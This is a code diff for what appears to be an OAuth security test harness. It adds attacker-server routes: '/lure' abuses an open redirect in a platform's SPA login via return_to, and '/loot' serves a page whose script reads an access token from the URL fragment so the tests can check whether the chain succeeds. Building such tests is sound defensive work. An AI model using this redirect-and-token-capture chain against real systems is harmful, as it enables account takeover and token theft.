@@ -122,6 +122,22 @@ export function createAttackerAs({ issuer, honest, platform, record }) {
       to.searchParams.set('state', state);
       return redirect(res, to.href);
     }
+    if (url.pathname === '/lure') {
+      // a link into the platform's SPA login whose return_to is the attacker's own page (open redirect)
+      const to = new URL(`${platform}/spa/login`);
+      to.searchParams.set('return_to', `${issuer}/loot`);
+      record('attack', { kind: 'open-redirect' }, 'attacker-as');
+      return redirect(res, to.href);
+    }
+    if (url.pathname === '/loot') {
+      // where the open redirect lands: the page reads the token the browser re-attached in the
+      // fragment (data-outcome "connected": the chain reached its end with a token, as the tests read it)
+      return page(
+        res,
+        `<title>Attacker page</title><main id="result" data-outcome="pending">attacker page</main>
+<script>const h=new URLSearchParams(location.hash.slice(1));const m=document.getElementById('result');m.dataset.outcome=h.get('access_token')?'connected':'no-token';m.textContent=h.get('access_token')?'the attacker page read an access token from its fragment':'no token';</script>`,
+      );
+    }
     if (url.pathname === '/link') {
       // a third-party page with a link to any URL (a code re-delivered from another site: #8.2)
       const to = url.searchParams.get('to') ?? '';
